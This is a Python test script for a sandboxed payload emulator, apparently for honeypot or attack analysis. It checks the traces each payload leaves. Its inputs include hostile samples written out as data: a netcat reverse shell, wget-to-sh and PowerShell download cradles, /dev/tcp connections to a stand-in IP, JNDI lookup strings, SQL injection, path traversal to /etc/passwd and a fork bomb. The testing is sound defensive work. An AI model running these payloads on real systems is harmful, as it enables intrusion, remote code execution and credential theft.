#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""konseki emulate with the real konseki-emu: its JSON, its traces, its exit codes; as root and as an ordinary user.

usage: emulate.py BUILD SOURCE
"""
import json, os, re, shutil, subprocess, sys, tempfile

BUILD, SOURCE = os.path.realpath(sys.argv[1]), os.path.realpath(sys.argv[2])
CONFIG = os.path.join(SOURCE, 'config', 'konseki.conf')
failures = []


def check(what, holds, shown=''):
    if not holds:
        failures.append(what)
        print(f'FAILED: {what} {shown}')


def emulate(code, *options, language='shell', user=None):
    """(exit code, the JSON object or None, stderr)"""
    done = subprocess.run([BUILD + '/konseki', 'emulate', '-c', CONFIG, '--language', language, '--json', *options],
                          input=code if isinstance(code, bytes) else code.encode(), stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=120, user=user, group=user, extra_groups=[] if user else None)
    try:
        return done.returncode, json.loads(done.stdout), done.stderr.decode()
    except ValueError:
        return done.returncode, None, done.stderr.decode()


def validator():
    try:
        import jsonschema
    except ImportError:
        print('jsonschema is not installed: the JSON is not validated')
        return lambda answer: None
    with open(os.path.join(SOURCE, 'tests', 'schema', 'emulate.json')) as file:
        schema = json.load(file)
    return lambda answer: jsonschema.validate(answer, schema)


def traces(answer, kind):
    return [t for t in answer['traces'] if t['kind'] == kind]


def holds(answer, text):
    """Some text trace's pattern matches all of text."""
    return any(re.fullmatch(t['pattern'], text) for t in traces(answer, 'text'))


def without_times(answer):
    for profile in answer['profiles']:
        profile.pop('ms')
    return answer


def run(validate, user):
    code, sum_and_name, _ = emulate('id; echo $((191*7)) | rev', user=user)
    check('it ends with 0', code == 0)
    validate(sum_and_name)
    outputs = [p['output'] for p in sum_and_name['profiles']]
    check('every server runs it', outputs and all(o.endswith('7331\n') and o.startswith('uid=') for o in outputs))
    first = outputs[0].splitlines()[0]
    check('a trace holds what id prints', holds(sum_and_name, first))
    check('the sum is in a trace that must show',
          any('7331' in t['pattern'] and t['must_show'] for t in traces(sum_and_name, 'text')))

    must = [t['pattern'] for t in traces(emulate('id', user=user)[1], 'text') if t['must_show'] and t['bits'] >= 60]
    check('what every kind of server prints of an id must show', len(must) == 1 and all(re.search(must[0], text) for text in (
        'uid=998(nginx) gid=996(nginx) groups=996(nginx),10(wheel)', 'uid=0(root) gid=0(root) groups=0(root)',
        'uid=48(apache) gid=48(apache) groups=48(apache) context=system_u:system_r:httpd_t:s0')), must)
    _, sums, _ = emulate('sha1sum /bin/sh', user=user)
    check("where servers have too little in common, each one's own line is a trace", all(any(
        t['bits'] >= 30 and not t['must_show'] and re.fullmatch(t['pattern'], p['stdout'].strip())
        for t in traces(sums, 'text')) for p in sums['profiles'] if p['stdout']), sums['traces'])
    _, nc, _ = emulate('nc -e /bin/sh 203.0.113.9 4444', user=user)
    check('only some nc has -e', [t['must_show'] for t in traces(nc, 'connect')] == [False], nc['traces'])

    _, ping, _ = emulate('ping -c1 198.51.100.7', user=user)
    validate(ping)
    check('ping leaves an echo', any(t['pattern'] == '198.51.100.7' for t in traces(ping, 'icmp')), ping['traces'])

    _, wget, _ = emulate('wget http://203.0.113.9/x -O- | sh', user=user)
    validate(wget)
    check('wget leaves a connection and a fetch',
          any(t['pattern'] == '203.0.113.9:80' for t in traces(wget, 'connect')) and
          any(t['pattern'] == 'http://203.0.113.9/x' for t in traces(wget, 'fetch')), wget['traces'])


def text(code, *options, config=CONFIG, stdout=subprocess.PIPE):
    done = subprocess.run([BUILD + '/konseki', 'emulate', '-c', config, '--language', 'shell', *options], input=code.encode(),
                          stdout=stdout, stderr=subprocess.PIPE, timeout=120)
    return done.returncode, (done.stdout or b'').decode(errors='replace'), done.stderr.decode()


def operators_profiles():
    """A profile that an operator copied and changed is used; a slip in one is told in one line."""
    slips = [('pid = 911', 'pid = "x"', 'pid must be'), ('hostname =', 'hostnme =', 'hostnme'), ('gid = 65534;', 'gid = -1;', 'gid must be'),
             ('cwd = "/usr/lib/cgi-bin"', 'cwd = "/nosuch"', '/nosuch'), ('ports = [ 80 ]', 'ports = [ 80', 'syntax error'),
             ('host = (', 'packages = [\n"no-such-package" ];\nhost = (', 'no-such-package'), ('mode = 1023', 'mod = 1023', 'mod')]
    with tempfile.TemporaryDirectory(prefix='konseki-profiles.') as at:
        own = at + '/profiles/own/profile.conf'
        shutil.copytree(os.path.join(SOURCE, 'emu/profiles/busybox'), at + '/profiles/own')
        with open(CONFIG) as file, open(at + '/konseki.conf', 'w') as to:
            to.write(re.sub(r'profiles = "[^"]*"', 'profiles = "profiles"', file.read()))
        shutil.copytree(os.path.join(SOURCE, 'config/rules'), at + '/rules')
        with open(own) as file:
            good = file.read()
        with open(own, 'w') as file:
            file.write(good.replace('hostname = "gateway"', 'hostname = "kzqwv"'))
        code, said, _ = text('uname -n', config=at + '/konseki.conf')
        check("an operator's own profile is used", code == 0 and said.startswith('own: exit') and '| kzqwv' in said, said)
        for before, after, what in slips:
            broken = good.replace(before, after, 1)
            with open(own, 'w') as file:
                file.write(broken)
            line = broken[:broken.find(after)].count('\n') + 1 + after.count('\n') // 2
            code, _, said = text('id', config=at + '/konseki.conf')
            check(f'a slip is one line: {after!r}', code == 3 and said.count('\n') == 1 and what in said and
                  (f'{own}:{line}: ' in said or 'syntax' in what), said)


def interpreters(validate):
    """PHP, Python and Perl by their real interpreters; PHP with the request that brought it."""
    _, php, _ = emulate('echo strrev(md5("a"));', language='php')
    validate(php)
    must = [t['pattern'] for t in traces(php, 'text') if t['must_show'] and t['bits'] >= 60]
    check('what PHP computes must show', len(must) == 1 and len(php['profiles']) > 1 and
          all(p['stdout'] == must[0] for p in php['profiles']), php)
    _, broken, _ = emulate('<?php nosuch();', language='auto')
    validate(broken)
    check('a complaint shows on some servers only', broken['language'] == 'php' and
          not any(t['must_show'] for t in traces(broken, 'text')), broken['traces'])
    _, version, _ = emulate('echo PHP_VERSION;', language='php')
    check('a version is the server\'s own', not any(t['must_show'] for t in traces(version, 'text')), version['traces'])
    with tempfile.NamedTemporaryFile('w') as request:
        request.write('POST /x.php?a=id HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nb=-u')
        request.flush()
        code, seen, _ = emulate('system($_GET["a"]." ".$_POST["b"]);', '--request', request.name, language='php')
        check('PHP sees the request', code == 0 and all(re.fullmatch(r'\d+\n', p['stdout']) for p in seen['profiles']), seen)
    check('a request that cannot be read is told', emulate('echo 1;', '--request', '/nosuch', language='php')[0] == 1)
    for language, code, shown in (('python', '7*191', '1337'), ('perl', 'print 7*191', '1337')):
        _, answer, _ = emulate(code, language=language)
        validate(answer)
        check(f'{language} runs', answer['profiles'] and all(p['stdout'] == shown for p in answer['profiles']), answer)
    _, shell, _ = emulate('import os;os.system("/bin/sh -c \'exec 3<>/dev/tcp/203.0.113.9/1; id\'");__import__("socket").'
                          'create_connection(("203.0.113.9",4444))', language='python')
    check('a connection from Python is a trace', any(t['pattern'] == '203.0.113.9:4444' for t in traces(shell, 'connect')), shell)
    for language, code in (('php', 'while(1);'), ('python', 'while 1: pass'), ('perl', '1 while 1')):
        _, endless, _ = emulate(code, language=language)
        check(f'an endless loop in {language} ends', endless['stopped_by'] == 'blocks', endless['stopped_by'])


def windows(validate):
    """Evaluators of our own, on two kinds of Windows server, inside the jail."""
    for language, code, shown in (('cmd', 'set /a 191*7& echo.& cmd /c echo %windir%', '1337'), ('powershell', "'{0}' -f (191*7)", '1337'),
                                  ('cmd', 'powershell -nop -c "(1..3|%{$_*2}) -join 7"', '27476')):
        _, answer, _ = emulate(code, language=language)
        validate(answer)
        check(f'{language} runs: {code[:20]}', len(answer['profiles']) > 1 and answer['stopped_by'] == 'exit' and
              all(p['stdout'].startswith(shown) for p in answer['profiles']), answer)
    _, cradle, _ = emulate("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", language='powershell')
    check('a download cradle fetches', any(t['pattern'] == 'http://203.0.113.9/a' for t in cradle['traces'] if t['kind'] == 'fetch'), cradle)
    _, told, _ = emulate('whoami', language='cmd')
    check('what a server says of itself need not show', told['traces'] and not any(t['must_show'] for t in told['traces']), told['traces'])
    for language, code in (('cmd', '@echo off\n:a\ngoto a\n'), ('powershell', 'while(1){}')):
        _, endless, _ = emulate(code, language=language)
        check(f'an endless loop in {language} ends', endless['stopped_by'] in ('blocks', 'rounds'), endless['stopped_by'])


def main():
    validate = validator()
    interpreters(validate)
    windows(validate)
    operators_profiles()
    code, said, _ = text('/bin/cat /etc/hostname')
    check("a program's words stand apart from its path", re.search(r'(?m)^  exec +/\S+  /bin/cat /etc/hostname$', said), said)
    with open('/dev/full', 'wb') as full:
        code, _, said = text('id', stdout=full)
    check('an answer that cannot be written is told', code == 3 and said.count('\n') == 1, said)
    for name in ('..', '.', 'README.md'):
        code, _, said = text('id', '--profile', name)
        check(f'{name} is no profile', code == 1 and 'no such profile' in said, said)
    run(validate, None)
    if os.geteuid() == 0 and subprocess.run(['test', '-x', BUILD + '/konseki'], user=65534, group=65534).returncode == 0:
        run(validate, 65534)

    _, first, _ = emulate('echo $$ $(date) $RANDOM; cat /etc/passwd')
    _, second, _ = emulate('echo $$ $(date) $RANDOM; cat /etc/passwd')
    check('the same code gives the same answer', without_times(first) == without_times(second))

    _, jndi, _ = emulate('${${lower:J}ndi:${env:NOPE:-l}dap://203.0.113.7:1389/${sys:java.version}}', language='jndi')
    validate(jndi)
    check('a look-up leaves its connection', [t['pattern'] for t in traces(jndi, 'connect')] == ['203.0.113.7:1389'])
    _, sql, _ = emulate("1' UNION SELECT NULL,concat(0x71,version(),md5(31337),0x6a6b)-- -", language='sql-mysql')
    validate(sql)
    check('what a union computes is told, with a hole for what only the victim knows',
          any(re.search(t['pattern'], 'q10.11.6-MariaDB6f3249aa304055d63828af3bfab778f6jk') and t['bits'] > 60 for t in traces(sql, 'text')), sql['traces'])
    _, sql, _ = emulate("1') AND IF(1=1,SLEEP(5),0)#", language='sql-mysql')
    check('a wait has its seconds', [t['pattern'] for t in traces(sql, 'delay')] == ['5.000 s'], sql['traces'])
    for fragment, truth in (("1 AND 7219=7219", 'true'), ("1' AND 'a'='b", 'false'), ("1 AND ascii(user())>64", 'open')):
        _, sql, _ = emulate(fragment, language='sql-mysql')
        check(f'{fragment}: {truth}', [t['pattern'] for t in traces(sql, 'truth')] == [truth], sql['traces'])
    _, sql, _ = emulate('2 or 4 buttons', language='sql-mysql')
    check('ordinary text leaves nothing but what the database says as it rejects it', all(t['kind'] == 'error' for t in sql['traces']), sql['traces'])
    _, jndi, _ = emulate('${jndi:dns://x.example/${env:USER}.k7q2x.oast.example}', language='auto')
    check('a name with a part of the victim is a pattern',
          any(re.fullmatch(t['pattern'], 'tomcat.k7q2x.oast.example') for t in traces(jndi, 'dns')), jndi['traces'])

    _, path, _ = emulate('../../../../../../etc/passwd', language='path')
    validate(path)
    check('a traversal shows the file', traces(path, 'text') and not any(t['must_show'] for t in path['traces']))

    code, nothing, said = emulate('body', language='url')
    validate(nothing)
    check('what nothing here runs is said', code == 1 and nothing['stopped_by'] == 'unsupported' and 'runs url' in said, said)

    code, endless, _ = emulate('while :; do :; done')
    validate(endless)
    check('an endless loop ends', code == 0 and endless['stopped_by'] not in ('exit', 'unsupported'))
    code, forks, _ = emulate('f() { f | f & }; f; yes > /tmp/x')
    check('a fork bomb ends', code == 0 and forks['stopped_by'] != 'unsupported')

    for language in ('x86', 'x86-64', 'arm', 'aarch64', 'mips', 'mipsel', 'powerpc'):
        _, machine, _ = emulate(bytes(64), language=language)
        check(f'{language} has its processor in the jail', machine['profiles'] and machine['stopped_by'] != 'emulator died', machine['stopped_by'])
    check('a wrong language is a usage error', emulate('x', language='klingon')[0] == 2)
    check('an unknown profile is an error', emulate('x', '--profile', 'nosuch')[0] == 1)
    check('no language is a usage error',
          subprocess.run([BUILD + '/konseki', 'emulate'], input=b'', capture_output=True).returncode == 2)
    check('code that is too long is refused', emulate(b'#' * 70000)[0] == 1)
    print('konseki emulate:', f'{len(failures)} failures' if failures else 'all as it should be')
    return 1 if failures else 0


sys.exit(main())
